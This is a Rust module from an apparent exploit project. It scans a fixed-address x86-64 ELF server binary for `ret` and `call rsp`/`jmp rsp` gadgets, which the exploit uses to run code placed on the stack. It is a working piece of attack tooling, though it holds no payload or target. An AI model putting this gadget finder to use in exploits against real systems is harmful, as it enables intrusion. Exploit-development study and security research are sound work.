//! Instructions of the server that the exploit makes use of: found in the executable's file, which
//! an attacker has too, or one like it.
use object::elf::{FileHeader64, PF_X, PT_LOAD};
use object::read::elf::{FileHeader, ProgramHeader};
use object::{Endianness, elf};
use std::fs;
use std::io;
use std::path::Path;

/// Addresses in the server's address space.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Gadgets {
    /// `ret`: takes the next word of the stack for a return address.
    pub ret: u64,
    /// `call rsp` or `jmp rsp`: runs what stands on the stack. `call rsp` hides in every
    /// `call r12`, behind that instruction's prefix.
    pub run_stack: u64,
}

/// Scans the executable part of a program that is linked at a fixed address.
pub fn find(program: &Path) -> io::Result<Gadgets> {
    let bytes = fs::read(program)?;
    scan(&bytes).map_err(|why| io::Error::other(format!("{}: {why}", program.display())))
}

fn scan(bytes: &[u8]) -> Result<Gadgets, &'static str> {
    const NOT_ELF: &str = "not an ELF executable for x86-64";
    let header = FileHeader64::<Endianness>::parse(bytes).map_err(|_| NOT_ELF)?;
    let endian = header.endian().map_err(|_| NOT_ELF)?;
    if header.e_machine(endian) != elf::EM_X86_64 {
        return Err(NOT_ELF);
    }
    if header.e_type(endian) != elf::ET_EXEC {
        return Err("not linked at a fixed address");
    }
    let (mut ret, mut run_stack) = (None, None);
    for segment in header.program_headers(endian, bytes).map_err(|_| NOT_ELF)? {
        if segment.p_type(endian) != PT_LOAD || !segment.p_flags(endian).contains(PF_X) {
            continue;
        }
        let code = segment.data(endian, bytes).map_err(|()| NOT_ELF)?;
        let at = |offset: usize| segment.p_vaddr(endian).wrapping_add(offset as u64);
        ret = ret.or_else(|| code.iter().position(|&b| b == 0xc3).map(at));
        run_stack = run_stack
            .or_else(|| code.windows(2).position(|w| matches!(w, [0xff, 0xd4 | 0xe4])).map(at));
    }
    Ok(Gadgets {
        ret: ret.ok_or("has no `ret`")?,
        run_stack: run_stack.ok_or("has no `call rsp` or `jmp rsp`")?,
    })
}
